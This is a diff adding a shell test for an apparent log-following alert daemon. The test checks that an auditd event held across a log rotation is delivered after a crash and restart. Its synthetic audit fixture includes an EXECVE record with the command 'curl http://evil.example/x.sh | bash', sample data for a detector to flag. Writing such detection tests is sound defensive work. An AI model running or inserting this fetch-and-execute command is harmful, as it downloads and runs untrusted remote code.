@@ -173,6 +173,47 @@ daemon=
 echo "rotated in a backlog and killed: $got distinct alerts of 250 lines ($(wc -l < "$tmp/ids") sent)"
 [ "$got" -eq 250 ] || fail "$got distinct alerts for the 150 + 100 lines of a file rotated in a backlog"
 
+# An auditd event the parser still held when its file was rotated (its end
+# record not yet written) is finished at the switch: its alert is the old
+# file's delivery, so the position stays in the old file until the alert is
+# out. It was registered under the new file with the old file's offset: the
+# position was saved inside a line of the new file and the alert lost in a
+# crash. The endpoint refuses (503) until the restart.
+echo 503 > "$tmp/status"
+echo 0.01 > "$tmp/delay"
+user_start() {  # user_start SECONDS SERIAL
+  printf "type=USER_START msg=audit(%d.000:%d): pid=1 uid=0 auid=1000 ses=1 msg='op=PAM:session_open grantors=pam_unix acct=\"bob\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'\n" "$1" "$2"
+}
+{
+  for i in 1 2 3; do user_start $((1700000000 + i)) $((100 + i)); done
+  echo 'type=SYSCALL msg=audit(1700000100.100:5000): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=200 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" key=(null)'
+  echo 'type=EXECVE msg=audit(1700000100.100:5000): argc=3 a0="bash" a1="-c" a2="curl http://evil.example/x.sh | bash"'
+} > "$tmp/audit.log"
+sed -e "s|stream: syslog, path: \"$tmp/follow.log\"|stream: auditd, path: \"$tmp/audit.log\"|" \
+  -e "s|position_file: \"$tmp/pos\"|position_file: \"$tmp/apos\"|" "$tmp/f.yaml" > "$tmp/a.yaml"
+: > "$tmp/ids"
+"$bin" run --config "$tmp/a.yaml" 2> "$tmp/err" &
+daemon=$!
+for _ in $(seq 1 30); do [ -s "$tmp/apos" ] && break; sleep 0.1; done
+[ -s "$tmp/apos" ] || fail "no auditd position saved"
+mv "$tmp/audit.log" "$tmp/audit.log.1"
+for i in 1 2 3 4 5; do user_start $((1700000200 + i)) $((6000 + i)); done > "$tmp/audit.log"
+sleep 2.5
+read -r _ inode _ < "$tmp/apos"
+[ "$inode" = "$(stat -c %i "$tmp/audit.log.1")" ] ||
+  fail "position $(cat "$tmp/apos") moved to the new file with the rotated file's alert undelivered"
+kill -9 $daemon
+wait $daemon 2>/dev/null || true
+echo 200 > "$tmp/status"
+"$bin" run --config "$tmp/a.yaml" 2> "$tmp/err" &
+daemon=$!
+for _ in $(seq 1 50); do [ -s "$tmp/ids" ] && break; sleep 0.1; done
+kill -TERM $daemon
+wait $daemon || fail "auditd followed run exited $?"
+daemon=
+[ -s "$tmp/ids" ] || fail "the alert of the event held across the rotation was lost"
+echo "auditd event held across a rotation, killed: $(sort -u "$tmp/ids" | wc -l) alert delivered after the restart"
+
 # Alerts given up (the endpoint refuses them): exit 1.
 echo 0.1 > "$tmp/delay"
 echo 400 > "$tmp/status"
